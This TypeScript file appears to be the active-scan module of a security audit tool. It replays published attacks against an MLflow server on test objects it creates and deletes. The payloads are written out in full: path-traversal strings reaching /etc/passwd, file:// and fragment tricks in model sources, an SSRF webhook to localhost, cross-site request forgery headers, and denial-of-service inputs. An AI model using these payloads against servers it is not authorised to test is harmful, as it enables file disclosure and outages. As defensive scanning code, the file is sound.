import { randomBytes } from 'node:crypto'
import type { Answer } from './ask.ts'
import { API, askKnown, askPage, type Look, objectOf, type Told } from './look.ts'

/** What a try was, which row of the list of attacks it replays, and what its answer shows. */
type Try = {
  readonly row: string
  readonly what: string
  readonly cwe: number
  readonly category: Told['category']
  /** Gives what shows that it worked, or undefined. */
  readonly run: (look: Look, made: Made) => Promise<string | undefined>
}

/** What the tries stand on, made for them and deleted after them. */
type Made = { readonly experiment: string; readonly run: string; readonly model: string }

const PASSWD = /^root:[^:]*:0:0:/m
const JSON_BODY = { 'content-type': 'application/json' }

const post = (look: Look, path: string, body: unknown, headers: Record<string, string> = JSON_BODY): Promise<Answer> =>
  askKnown(look, path, { method: 'POST', headers, body: JSON.stringify(body) })

const showsPasswords = ({ status, text }: Answer): string | undefined =>
  status === 200 && PASSWD.test(text) ? 'the answer holds a file of the system' : undefined

const UP = '..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd'

const source =
  (from: string, tags: readonly object[] = []) =>
  async (look: Look, { model }: Made): Promise<string | undefined> => {
    const created = await post(look, `${API}/model-versions/create`, { name: model, source: from, tags })
    const version = (objectOf(created)?.model_version as Record<string, unknown> | undefined)?.version
    if (version === undefined) return undefined
    const read = await askPage(look, `/model-versions/get-artifact?name=${model}&version=${version}&path=passwd`)
    return showsPasswords(read) ?? `a version with the source ${from} was made`
  }

/** The part of the list of attacks that reads, or is refused, or is deleted again. */
const TRIES: readonly Try[] = [
  { row: 'PT-01', what: 'a version whose source is file:///etc', cwe: 22, category: 'DATA_EXPOSURE', run: source('file:///etc') },
  {
    row: 'PT-14',
    what: 'a version that calls itself a prompt, with a source in /etc',
    cwe: 22,
    category: 'DATA_EXPOSURE',
    run: source('file:///etc', [{ key: 'mlflow.prompt.is_prompt', value: 'true' }]),
  },
  {
    row: 'PT-07',
    what: 'a source with a fragment that leads up',
    cwe: 22,
    category: 'DATA_EXPOSURE',
    run: source('http://h.invalid/#/../../../../../etc'),
  },
  {
    row: 'PT-22',
    what: 'a file of a run whose path leads up',
    cwe: 22,
    category: 'DATA_EXPOSURE',
    run: async (look, { run }) => showsPasswords(await askPage(look, `/get-artifact?path=${UP}&run_uuid=${run}`)),
  },
  {
    row: 'PT-27',
    what: 'a download whose path is encoded twice',
    cwe: 22,
    category: 'DATA_EXPOSURE',
    run: async (look) => showsPasswords(await askKnown(look, `/api/2.0/mlflow-artifacts/artifacts/${UP.replaceAll('%', '%25')}`)),
  },
  {
    row: 'PT-28',
    what: 'a download whose path leads up',
    cwe: 22,
    category: 'DATA_EXPOSURE',
    run: async (look) => showsPasswords(await askKnown(look, `/api/2.0/mlflow-artifacts/artifacts/${UP}`)),
  },
  {
    row: 'PT-20',
    what: 'an experiment whose artifacts are to be in /etc',
    cwe: 22,
    category: 'DATA_EXPOSURE',
    run: async (look, { model }) => {
      const answer = await post(look, `${API}/experiments/create`, {
        name: `${model}-location`,
        artifact_location: 'http://h.invalid/#/../../../etc',
      })
      const id = objectOf(answer)?.experiment_id
      if (id === undefined) return undefined
      await post(look, `${API}/experiments/delete`, { experiment_id: id })
      return 'the experiment was made'
    },
  },
  {
    row: 'SS-02',
    what: 'a webhook to the machine itself',
    cwe: 918,
    category: 'DATA_EXFILTRATION',
    run: async (look, { model }) => {
      const webhook = {
        name: model,
        url: 'https://127.0.0.1:9/',
        events: [{ entity: 'REGISTERED_MODEL', action: 'CREATED' }],
        status: 'DISABLED',
      }
      const made = objectOf(await post(look, `${API}/webhooks`, webhook))?.webhook as Record<string, unknown> | undefined
      if (made?.webhook_id === undefined) return undefined
      await askKnown(look, `${API}/webhooks/${made.webhook_id}`, { method: 'DELETE' })
      return 'the webhook was made'
    },
  },
  {
    row: 'BR-03',
    what: 'a change that another site’s page asks for',
    cwe: 352,
    category: 'DATA_EXPOSURE',
    run: (look, made) => fromPage(look, made, { ...JSON_BODY, origin: 'https://audit.invalid' }),
  },
  {
    row: 'BR-04',
    what: 'a change sent as text, as forms of other sites can',
    cwe: 352,
    category: 'DATA_EXPOSURE',
    run: (look, made) => fromPage(look, made, { 'content-type': 'text/plain', origin: 'https://audit.invalid' }),
  },
  {
    row: 'DO-07',
    what: 'JSON that is nested twenty thousand times',
    cwe: 674,
    category: 'DATA_EXPOSURE',
    run: async (look) => {
      const nested = `${'['.repeat(20_000)}${']'.repeat(20_000)}`
      const { status } = await askKnown(look, `${API}/runs/search`, { method: 'POST', headers: JSON_BODY, body: nested })
      return status >= 500 ? `it answered ${status}` : undefined
    },
  },
  {
    row: 'DO-12',
    what: 'a search for two thousand million results',
    cwe: 770,
    category: 'DATA_EXPOSURE',
    run: async (look, { experiment }) => {
      const { status } = await post(look, `${API}/runs/search`, { experiment_ids: [experiment], max_results: 2_000_000_000 })
      return status === 200 ? 'it was answered' : undefined
    },
  },
]

async function fromPage(look: Look, { experiment }: Made, headers: Record<string, string>): Promise<string | undefined> {
  const tag = { experiment_id: experiment, key: 'millrace-audit', value: 'from another site' }
  const { status } = await post(look, `${API}/experiments/set-experiment-tag`, tag, headers)
  return status === 200 ? 'a tag was set' : undefined
}

/**
 * Replays attacks that were published, of those that can be taken back: on an experiment, a run and a model that are made for it and
 * deleted again. @throws Error when they can't be made
 */
export async function attack(look: Look): Promise<void> {
  const name = `millrace-audit-${randomBytes(6).toString('hex')}`
  const experiment = String(objectOf(await post(look, `${API}/experiments/create`, { name }))?.experiment_id ?? '')
  if (experiment === '') throw new Error('--active makes an experiment to try on, and was refused one: give a login that may')
  const made = objectOf(await post(look, `${API}/runs/create`, { experiment_id: experiment }))?.run as
    | { info?: { run_id?: string } }
    | undefined
  await post(look, `${API}/registered-models/create`, { name })
  try {
    for (const one of TRIES) await attempt(look, one, { experiment, run: made?.info?.run_id ?? '', model: name })
  } finally {
    await askKnown(look, `${API}/registered-models/delete`, { method: 'DELETE', headers: JSON_BODY, body: JSON.stringify({ name }) })
    await post(look, `${API}/experiments/delete`, { experiment_id: experiment })
  }
}

async function attempt(look: Look, { row, what, cwe, category, run }: Try, made: Made): Promise<void> {
  const shown = await run(look, made)
  if (shown === undefined) {
    look.passed.push(`${row}: ${what} is refused.`)
    return
  }
  look.found.push({
    rule: `active/${row.toLowerCase()}`,
    category,
    severity: 'high',
    cwe,
    title: `It takes ${what}`,
    evidence: `${row}: ${shown}`,
    why: 'The request was sent, and was not refused.',
    means: 'The attack is published, and works here.',
    recommendation: 'Update the server; until then let nobody reach it whom you do not trust.',
  })
}
